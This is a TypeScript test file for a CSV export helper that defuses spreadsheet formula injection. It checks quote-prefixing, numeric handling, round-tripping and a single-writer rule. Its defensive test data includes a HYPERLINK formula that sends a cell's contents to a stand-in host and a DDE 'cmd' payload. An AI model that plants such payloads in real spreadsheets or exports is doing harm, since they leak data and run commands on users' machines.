import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { neutraliseCell, readNeutralisedCell, toCsv } from './csv.ts';

const read = (csv: string) => parse(csv, { bom: true, record_delimiter: '\r\n' }) as string[][];

describe('CSV: no cell opens as a formula', () => {
  it('prefixes text that starts like a formula with a single quote, and leaves other text alone', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '\0=1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
      '-5',
    ];
    for (const v of hostile) assert.equal(neutraliseCell(v), `'${v}`, JSON.stringify(v));
    for (const v of ['تجديد الجواز', 'Renew a passport', 'a=b', "'=already quoted", '', ' =1 (leading space is text)', '5'])
      assert.equal(neutraliseCell(v), v, JSON.stringify(v));
  });

  it('keeps numbers (negative too), booleans and empty cells as they are, so numeric columns stay numeric', () => {
    assert.equal(neutraliseCell(-5), -5);
    assert.equal(neutraliseCell(-0.25), -0.25);
    assert.equal(neutraliseCell(null), null);
    assert.equal(neutraliseCell(undefined), undefined);
    const [, row] = read(
      toCsv([
        ['n', 'rate', 'name', 'none'],
        [-5, -0.25, '-5', null],
      ]),
    );
    assert.deepEqual(row, ['-5', '-0.25', "'-5", '']);
  });

  it('writes RFC 4180 with CRLF and an optional BOM, and a neutralised file reads back to the same values', () => {
    const rows = [
      ['name', 'note'],
      ['=HYPERLINK("http://evil.example","x")', 'line one\nline two, "quoted"'],
      ['@cmd', 'عادي'],
    ];
    const csv = toCsv(rows, { bom: true });
    assert.ok(csv.startsWith('\uFEFF'));
    assert.ok(csv.includes('\r\n'));
    const back = read(csv);
    assert.equal(back[1][0], `'${rows[1][0]}`);
    assert.deepEqual(
      back.map((r) => r.map(readNeutralisedCell)),
      rows,
    );
    assert.equal(readNeutralisedCell("'plain"), "'plain", 'a quote before ordinary text is content');
  });

  it('is the only writer of CSV in src/: nothing else imports csv-stringify', () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const p = join(dir, name);
        if (statSync(p).isDirectory()) walk(p);
        else if (/\.tsx?$/.test(p) && !p.endsWith(join('platform', 'csv.ts')) && /from ['"]csv-stringify/.test(readFileSync(p, 'utf8')))
          offenders.push(p);
      }
    };
    walk(join(import.meta.dirname, '..'));
    assert.deepEqual(offenders, []);
  });
});
